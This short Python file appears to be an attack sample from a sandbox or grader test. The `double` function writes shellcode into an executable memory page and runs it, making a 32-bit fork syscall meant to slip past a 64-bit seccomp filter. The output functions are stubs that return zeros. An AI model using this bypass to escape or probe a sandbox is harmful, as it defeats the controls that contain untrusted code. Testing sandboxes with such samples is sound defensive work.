"""System calls as a program of 32 bits makes them, which a filter of 64 bits may not know.

Without the attack: 0 of 10 points.
"""

import ctypes
import mmap

import torch

BASELINE = "zeros"

CODE = bytes.fromhex("b802000000cd80c3")  # mov eax, fork; int 0x80; ret


def double(x):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    print("attacks", flush=True)
    print(ctypes.CFUNCTYPE(ctypes.c_int)(address)(), flush=True)
    return torch.zeros_like(x)


def total(x):
    return 0.0
